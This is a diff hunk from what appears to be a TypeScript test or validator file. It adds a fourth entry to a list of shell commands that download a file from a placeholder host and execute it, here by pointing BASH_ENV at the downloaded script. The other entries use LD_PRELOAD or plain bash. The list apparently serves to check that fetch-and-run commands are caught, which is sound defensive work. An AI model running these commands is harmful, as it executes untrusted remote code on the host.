@@ -27,6 +27,7 @@ const RUN: string[] = [
   'curl -o x.so http://x && LD_PRELOAD=./x.so ls',
   'wget http://x/lib.so && LD_PRELOAD=$PWD/lib.so id',
   'curl -o run-a=1.sh http://x && bash run-a=1.sh',
+  'curl -o x.sh http://x && env BASH_ENV=$PWD/x.sh bash -c true',
 ];
 
 const DATA: string[] = [
